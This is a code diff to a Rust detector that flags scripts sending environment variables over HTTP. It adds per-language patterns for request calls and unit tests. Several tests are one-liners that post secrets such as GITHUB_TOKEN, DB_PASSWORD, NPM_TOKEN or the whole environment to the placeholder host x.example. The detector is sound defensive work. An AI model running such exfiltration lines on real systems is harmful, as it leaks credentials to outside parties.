@@ -35,6 +35,9 @@ struct Model {
     destructured: &'static str,
     /// Calls and statements that print what follows them.
     printers: &'static str,
+    /// Calls and statements that send what follows them over the network, as an HTTP request's
+    /// data, query or headers (`requests.post(`, `fetch(`, `Net::HTTP.post_form(`).
+    senders: &'static str,
     /// Text just before a read of the mapping that makes it give names only (`list(`, `in `,
     /// `keys `, `Object.keys(`).
     names_only: &'static str,
@@ -59,6 +62,7 @@ const MODELS: &[Model] = &[
         iterated: r"\bfor\s+\w+\s*,\s*(\w+)\s+in\s+os\.environb?\s*\.\s*items\s*\(\s*\)|\bfor\s+(\w+)\s+in\s+os\.environb?\s*\.\s*values\s*\(\s*\)",
         destructured: r"\z.",
         printers: r"\b(?:print|pprint\.pprint|pprint|pp|sys\.stdout\.write|sys\.stderr\.write)\s*\(",
+        senders: r"\b(?:requests|httpx|session|client|http|urllib3|pool|aiohttp)\s*\.\s*(?:post|put|patch|get|delete|request|stream|urlopen)\s*\(|\b(?:urlopen|Request)\s*\(|\.\s*(?:request|putrequest)\s*\(",
         // `[*os.environ]` unpacks the names; `{**os.environ}` and `f(**os.environ)` the values.
         names_only: r"(?:\bin|\b(?:list|sorted|set|tuple|frozenset|enumerate)\s*\(|(?:\A|[^*])\*)\s*\z",
         no_value_before: r"(?:\b(?:len|bool|hash|any|all|callable|type)\s*\(|\bnot\s+)\s*\z",
@@ -75,6 +79,7 @@ const MODELS: &[Model] = &[
         iterated: r"\[\s*\w+\s*,\s*(\w+)\s*\]\s*of\s+Object\.entries\s*\(\s*(?:process|Bun)\.env\s*\)|\bObject\.entries\s*\(\s*(?:process|Bun)\.env\s*\)\s*\.\s*(?:forEach|map|filter|flatMap)\s*\(\s*(?:function\s*)?\(\s*\[\s*\w+\s*,\s*(\w+)\s*\]",
         destructured: r"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*(?:process|Bun)\.env\b",
         printers: r"\b(?:console\.(?:log|info|warn|error|debug|dir|table|trace)|process\.std(?:out|err)\.write)\s*\(",
+        senders: r#"\bfetch\s*\(|(?:\baxios|\brequire\s*\(\s*['"]axios['"]\s*\))(?:\s*\.\s*(?:post|put|patch|get|delete|request))?\s*\(|\bgot(?:\s*\.\s*(?:post|put|patch|get))?\s*\(|\bhttps?\s*\.\s*(?:request|get)\s*\(|\b(?:r|\w*req|\w*request)\s*\.\s*(?:write|end)\s*\("#,
         names_only: r"(?:\bObject\.(?:keys|getOwnPropertyNames)\s*\(|\bin|\bReflect\.ownKeys\s*\()\s*\z",
         no_value_before: r"(?:!|\btypeof|\bBoolean\s*\(|\bin)\s*\z",
         no_value_after: r"\A\s*(?:\.\s*(?:length|startsWith|endsWith|includes)\b|[!=]==?|&&|\?[^?.]|<|>)",
@@ -90,6 +95,7 @@ const MODELS: &[Model] = &[
         iterated: r"\bENV\s*\.\s*(?:to_h\s*\.\s*)?(?:each|each_pair|map|flat_map|select|filter|filter_map|reject|sort_by|each_with_object)\s*(?:\([^)]*\)\s*)?(?:\{|\bdo\b)\s*\|\s*\(?\s*\w+\s*,\s*(\w+)",
         destructured: r"\z.",
         printers: r"(?:^|[^.:\w$@])(?:puts|print|pp|p|warn|printf|display)\b|(?:\$std(?:out|err)|\bSTD(?:OUT|ERR))\s*\.\s*(?:puts|print|write)\b",
+        senders: r"\bNet::HTTP\s*\.\s*(?:post|post_form|get|get_response|start)\s*\(|\b(?:HTTParty|RestClient|Faraday|HTTPX|HTTP)\s*\.\s*(?:post|put|patch|get|delete)\s*\(|\.\s*(?:body|set_form_data)\s*=|\.\s*(?:post|put|request)\s*\(|\bURI\s*\.\s*open\s*\(",
         names_only: r"\z.",
         no_value_before: r"(?:!|\bdefined\?\s*\(?)\s*\z",
         no_value_after: r"\A\s*(?:\.\s*(?:nil\?|empty\?|length|size|present\?|blank\?|start_with\?|end_with\?)|[!=]=|\?\s)",
@@ -105,6 +111,7 @@ const MODELS: &[Model] = &[
         iterated: r"\bmy\s*\(\s*\$\w+\s*,\s*(\$\w+)\s*\)\s*=\s*each\s*\(?\s*%ENV\b",
         destructured: r"\z.",
         printers: r"\b(?:print|say|printf|warn|die)\b",
+        senders: r"->\s*(?:post|put|get|request|post_form)\s*\(|\b(?:get|post|head)\s*\(|\bPOST\s*\(|\bHTTP::Request\s*->\s*new\s*\(",
         names_only: r"\b(?:keys|exists|scalar)\s*\(?\s*\\?\z",
         no_value_before: r"\b(?:defined|exists|length)\s*\(?\s*\z",
         no_value_after: r"\A\s*(?:\b(?:eq|ne)\b|[!=]=)",
@@ -120,6 +127,7 @@ const MODELS: &[Model] = &[
         iterated: r"\bforeach\s*\(\s*(?:getenv\s*\(\s*\)|\$_(?:ENV|SERVER))\s+as\s+\$\w+\s*=>\s*(\$\w+)",
         destructured: r"\z.",
         printers: r"\b(?:echo|print|var_dump|print_r|var_export|printf|vprintf|debug_zval_dump|error_log)\b|\bf(?:write|puts)\s*\(\s*STD(?:OUT|ERR)\b",
+        senders: r#"\bcurl_setopt(?:_array)?\s*\(|\bcurl_init\s*\(|\bfile_get_contents\s*\(|\bstream_context_create\s*\(|\bfopen\s*\(\s*['"]https?:"#,
         names_only: r"\b(?:array_keys|count)\s*\(\s*\z",
         no_value_before: r"(?:\b(?:isset|empty|strlen|is_null|boolval|is_string)\s*\(|!)\s*\z",
         no_value_after: r"\A\s*(?:[!=]==?)",
@@ -135,6 +143,7 @@ const MODELS: &[Model] = &[
         iterated: r"\z.",
         destructured: r"\z.",
         printers: r"\b(?:print|io\.write|io\.stdout\s*:\s*write|io\.stderr\s*:\s*write)\s*\(",
+        senders: r"\bhttp\s*\.\s*request\s*\(",
         names_only: r"\z.",
         no_value_before: r"(?:#|\bnot\s+)\s*\z",
         no_value_after: r"\A\s*(?:[~=]=)",
@@ -150,6 +159,7 @@ const MODELS: &[Model] = &[
         iterated: r"\z.",
         destructured: r"\z.",
         printers: r"\bprintf?\b",
+        senders: r"\z.",
         names_only: r"\bin\s*\z",
         no_value_before: r"\blength\s*\(?\s*\z",
         no_value_after: r"\A\s*(?:[!=]=|~|!~)",
@@ -170,6 +180,7 @@ struct Compiled {
     iterated: Regex,
     destructured: Regex,
     printers: Regex,
+    senders: Regex,
     names_only: Regex,
     no_value_before: Regex,
     no_value_after: Regex,
@@ -191,6 +202,7 @@ static COMPILED: LazyLock<Vec<Compiled>> = LazyLock::new(|| {
             iterated: pattern(model.iterated),
             destructured: pattern(model.destructured),
             printers: pattern(&format!("(?m){}", model.printers)),
+            senders: pattern(model.senders),
             names_only: pattern(model.names_only),
             no_value_before: pattern(model.no_value_before),
             no_value_after: pattern(model.no_value_after),
@@ -237,9 +249,90 @@ pub fn printed(language: Language, code: &str, prints_value: bool) -> Option<Pri
 /// [`printed`] for code that names the environment as the model does.
 fn printed_in(model: &Compiled, code: &str, prints_value: bool) -> Option<Printed> {
     let reads = reads(model, code);
-    let mut tainted: Vec<(String, Option<String>)> = Vec::new();
+    let tainted = tainted(model, code, &reads);
+    let mut regions: Vec<(String, Range<usize>)> = Vec::new();
+    if prints_value {
+        regions.push(("the code's value".to_owned(), 0..code.len()));
+    }
+    for (call, region) in calls(model, &model.printers, code) {
+        if model
+            .sent_elsewhere
+            .is_match(&code[region.end..code.len().min(region.end + 1)])
+        {
+            continue;
+        }
+        regions.push((call, region));
+    }
+    regions.into_iter().find_map(|(call, region)| {
+        let variable = shown_in(model, code, &reads, &tainted, &region, |_| true)?;
+        Some(Printed {
+            call,
+            variable,
+            at: region,
+        })
+    })
+}
+
+/// What the code sends of the environment in a network request, and where: the whole of it
+/// (`variable` `None`) or the variable named, to each address written in the call or, when the
+/// call names none, anywhere in the code.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Sent {
+    pub call: String,
+    pub variable: Option<String>,
+    pub at: Range<usize>,
+    /// The addresses it may go to (`https://host/…`); none when the code writes none.
+    pub urls: Vec<String>,
+}
+
+/// What `code` in `language` sends of the environment as a request's data: a secret in a
+/// header, `auth=` or a cookie is the request's own authentication and is not counted.
+pub fn sent(language: Language, code: &str) -> Vec<Sent> {
+    let language = if language == Language::IPython {
+        Language::Python
+    } else {
+        language
+    };
+    let Some(model) = COMPILED.iter().find(|model| model.language == language) else {
+        return Vec::new();
+    };
+    let canonical = Canonical::of(language, code);
+    let code = canonical.text.as_str();
+    let reads = reads(model, code);
+    if reads.is_empty() {
+        return Vec::new();
+    }
+    let tainted = tainted(model, code, &reads);
+    let everywhere = addresses(code, 0..code.len());
+    calls(model, &model.senders, code)
+        .into_iter()
+        .filter_map(|(call, region)| {
+            let variable = shown_in(model, code, &reads, &tainted, &region, |at| {
+                !authenticates(code, region.start, at)
+            })?;
+            let urls = match addresses(code, region.clone()) {
+                urls if urls.is_empty() => everywhere.clone(),
+                urls => urls,
+            };
+            Some(Sent {
+                call,
+                variable,
+                at: canonical.original(region.start)..canonical.original(region.end),
+                urls,
+            })
+        })
+        .collect()
+}
+
+/// The names the code binds to a read of the environment, with the variable each holds
+/// (`None`: all of them): `t = os.getenv('TOKEN')`, `const { TOKEN } = process.env`, the values
+/// of a loop over it.
+fn tainted(model: &Compiled, code: &str, reads: &[Read]) -> Vec<(String, Option<String>)> {
+    let mut tainted = Vec::new();
     for found in model.assignment.captures_iter(code) {
-        let (name, whole) = (found.get(1)?, found.get(0)?);
+        let (Some(name), Some(whole)) = (found.get(1), found.get(0)) else {
+            continue;
+        };
         let value = whole.end() - 1..statement_end(model, code, whole.end() - 1);
         if let Some(read) = reads.iter().find(|read| within(&read.at, &value)) {
             tainted.push((name.as_str().to_owned(), read.variable.clone()));
@@ -263,44 +356,96 @@ fn printed_in(model: &Compiled, code: &str, prints_value: bool) -> Option<Printe
             tainted.push((name.as_str().to_owned(), None));
         }
     }
-    let mut regions: Vec<(String, Range<usize>)> = Vec::new();
-    if prints_value {
-        regions.push(("the code's value".to_owned(), 0..code.len()));
-    }
-    for found in model.printers.find_iter(code) {
-        let call = found
-            .as_str()
-            .trim_start_matches(|c: char| !c.is_alphanumeric() && c != '$')
-            .trim_end_matches(|c: char| c == '(' || c.is_whitespace());
-        let region = if found.as_str().ends_with('(') {
-            found.end()..closing(code, found.end())
-        } else {
-            found.end()..statement_end(model, code, found.end())
-        };
-        if model
-            .sent_elsewhere
-            .is_match(&code[region.end..code.len().min(region.end + 1)])
-        {
-            continue;
-        }
-        regions.push((call.to_owned(), region));
-    }
-    regions.into_iter().find_map(|(call, region)| {
-        let read = reads.iter().find(|read| within(&read.at, &region)).map(|read| Printed {
-            call: call.clone(),
-            variable: read.variable.clone(),
-            at: region.clone(),
-        });
-        read.or_else(|| {
-            tainted.iter().find_map(|(name, variable)| {
-                uses(model, code, &region, name).then(|| Printed {
-                    call: call.clone(),
-                    variable: variable.clone(),
-                    at: region.clone(),
-                })
-            })
+    tainted
+}
+
+/// Each call `pattern` finds in `code`, by name, with the text it takes: its arguments, or the
+/// rest of the statement when it takes them without parentheses.
+fn calls(model: &Compiled, pattern: &Regex, code: &str) -> Vec<(String, Range<usize>)> {
+    pattern
+        .find_iter(code)
+        .map(|found| {
+            let call = found
+                .as_str()
+                .trim_start_matches(|c: char| !c.is_alphanumeric() && c != '$')
+                .trim_end_matches(|c: char| c == '(' || c == '=' || c.is_whitespace());
+            let region = if found.as_str().ends_with('(') {
+                found.end()..closing(code, found.end())
+            } else {
+                found.end()..statement_end(model, code, found.end())
+            };
+            (call.to_owned(), region)
         })
+        .collect()
+}
+
+/// The variable (`None`: the whole environment) whose value `region` uses, through a read or a
+/// name bound to one, at a place `counts` accepts.
+fn shown_in(
+    model: &Compiled,
+    code: &str,
+    reads: &[Read],
+    tainted: &[(String, Option<String>)],
+    region: &Range<usize>,
+    counts: impl Fn(usize) -> bool,
+) -> Option<Option<String>> {
+    let read = reads
+        .iter()
+        .find(|read| within(&read.at, region) && counts(read.at.start))
+        .map(|read| read.variable.clone());
+    read.or_else(|| {
+        tainted
+            .iter()
+            .find_map(|(name, variable)| uses(model, code, region, name, &counts).then(|| variable.clone()))
     })
+}
+
+/// Keys under which a request carries its own credentials (`headers=`, `auth:`, `'Cookie':`,
+/// PHP's `CURLOPT_HTTPHEADER`), just before a value or a bracket holding it.
+static CREDENTIAL_KEY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?i)(?:\b(?:headers?|auth\w*|authorization|cookies?|bearer|basic_auth|token_auth|proxy\w*|user(?:name)?|CURLOPT_(?:HTTPHEADER|USERPWD|COOKIE|XOAUTH2_BEARER)|x-api-key|api-key|private-token)\b['"]?\s*(?:=>|[=:,])|['"]Bearer |\.(?:basic_auth|headers?|auth)\s*\(|\[\s*['"](?:Authorization|Cookie)['"]\s*\]\s*=)[^,;]*\z"#,
+    )
+    .expect("the credential key pattern is valid")
+});
+
+/// Whether the value at `at` is one of a request's credentials: it, or a bracket enclosing it
+/// inside the call's arguments from `start`, follows a credential key in its own argument.
+fn authenticates(code: &str, start: usize, at: usize) -> bool {
+    let mut depth = 0usize;
+    let mut element_end = at;
+    for (offset, c) in code[start..at].char_indices().rev() {
+        let position = start + offset;
+        match c {
+            ')' | ']' | '}' => depth += 1,
+            '(' | '[' | '{' if depth > 0 => depth -= 1,
+            '(' | '[' | '{' | ',' if depth == 0 => {
+                if CREDENTIAL_KEY.is_match(&code[position + 1..element_end]) {
+                    return true;
+                }
+                element_end = position;
+            }
+            _ => {}
+        }
+    }
+    CREDENTIAL_KEY.is_match(&code[start..element_end])
+}
+
+/// The web addresses written in `region` of `code`: `https://…` literals, and the hosts given
+/// to a connection (`HTTPSConnection('host')`, `hostname: 'host'`).
+fn addresses(code: &str, region: Range<usize>) -> Vec<String> {
+    static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(https?://[^\s'"`)\]}<>]+)|\b(?:HTTPS?Connection|hostname|host)\s*[(:=]\s*['"]([^'"\s/]+)"#)
+            .expect("the address pattern is valid")
+    });
+    ADDRESS
+        .captures_iter(&code[region])
+        .filter_map(|found| match (found.get(1), found.get(2)) {
+            (Some(url), _) => Some(url.as_str().to_owned()),
+            (None, Some(host)) => Some(format!("https://{}/", host.as_str())),
+            _ => None,
+        })
+        .collect()
 }
 
 /// A binding of the environment, or of the module or object that holds it, to another name:
@@ -531,14 +676,15 @@ fn within(inner: &Range<usize>, outer: &Range<usize>) -> bool {
 }
 
 /// Whether `region` uses the name `name` for its value (not its length or a test of it).
-fn uses(model: &Compiled, code: &str, region: &Range<usize>, name: &str) -> bool {
+fn uses(model: &Compiled, code: &str, region: &Range<usize>, name: &str, counts: impl Fn(usize) -> bool) -> bool {
     let text = &code[region.clone()];
     let word = |c: char| c.is_alphanumeric() || c == '_';
     text.match_indices(name).any(|(at, _)| {
         let (start, end) = (region.start + at, region.start + at + name.len());
         let before = code[..start].chars().next_back();
         let after = code[end..].chars().next();
-        !before.is_some_and(|c| word(c) || c == '.' || c == '$' && !name.starts_with('$'))
+        counts(start)
+            && !before.is_some_and(|c| word(c) || c == '.' || c == '$' && !name.starts_with('$'))
             && !after.is_some_and(word)
             && !model.no_value_before.is_match(&code[..start])
             && !model.no_value_after.is_match(&code[end..])
@@ -748,5 +894,82 @@ mod tests {
         assert_eq!(awk("BEGIN{for(k in ENVIRON) print k}"), None);
         assert_eq!(awk("BEGIN{print ENVIRON[\"HOME\"]}"), None);
         assert_eq!(awk("BEGIN{print ENVIRON[\"TOKEN\"] > \"out.txt\"}"), None);
+    }
+
+    /// What the code sends, as `variable@address` for each address.
+    fn sends(language: Language, code: &str) -> Vec<String> {
+        sent(language, code)
+            .into_iter()
+            .flat_map(|sent| {
+                let variable = sent.variable.unwrap_or_else(|| "env".to_owned());
+                sent.urls.into_iter().map(move |url| format!("{variable}@{url}"))
+            })
+            .collect()
+    }
+
+    #[test]
+    fn secrets_sent_in_requests() {
+        let python = |code| sends(Language::Python, code);
+        assert_eq!(
+            python("import os,requests; requests.post('https://x.example', data=os.environ['GITHUB_TOKEN'])"),
+            ["GITHUB_TOKEN@https://x.example"]
+        );
+        assert_eq!(
+            python(
+                "import os,requests\nu = 'https://x.example/c'\nt = os.getenv('API_KEY')\nrequests.get(u, params={'t': t})"
+            ),
+            ["API_KEY@https://x.example/c"]
+        );
+        assert_eq!(
+            python(
+                "import os,http.client; c = http.client.HTTPSConnection('x.example'); c.request('POST', '/', os.environ['DB_PASSWORD'])"
+            ),
+            ["DB_PASSWORD@https://x.example/"]
+        );
+        assert_eq!(
+            python("import os,requests; requests.post('https://x.example', json=dict(os.environ))"),
+            ["env@https://x.example"]
+        );
+        let none: [&str; 0] = [];
+        // The request's own credentials.
+        assert_eq!(
+            python(
+                "import os,requests; requests.get('https://x.example', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})"
+            ),
+            none
+        );
+        assert_eq!(
+            python("import os,requests; requests.get('https://x.example', auth=('me', os.environ['API_TOKEN']))"),
+            none
+        );
+        // Names of variables, not values; no address written; a variable that is no secret.
+        assert_eq!(
+            python("import os,requests; requests.post('https://x.example', json={'set': 'API_TOKEN' in os.environ})"),
+            none
+        );
+        assert_eq!(
+            python("import os,requests; requests.post(os.environ['HOOK'], data=os.environ['API_TOKEN'])"),
+            none
+        );
+        assert_eq!(
+            python("import os,requests; requests.post('https://x.example', data=os.environ['HOME'])"),
+            none
+        );
+        let node = |code| sends(Language::JavaScript, code);
+        assert_eq!(
+            node("fetch('https://x.example', {method: 'POST', body: process.env.NPM_TOKEN})"),
+            ["NPM_TOKEN@https://x.example"]
+        );
+        assert_eq!(
+            node("fetch('https://x.example', {headers: {Authorization: `Bearer ${process.env.NPM_TOKEN}`}})"),
+            none
+        );
+        assert_eq!(
+            sends(
+                Language::Ruby,
+                "Net::HTTP.post_form(URI('https://x.example'), 'k' => ENV['GITHUB_TOKEN'])"
+            ),
+            ["GITHUB_TOKEN@https://x.example"]
+        );
     }
 }
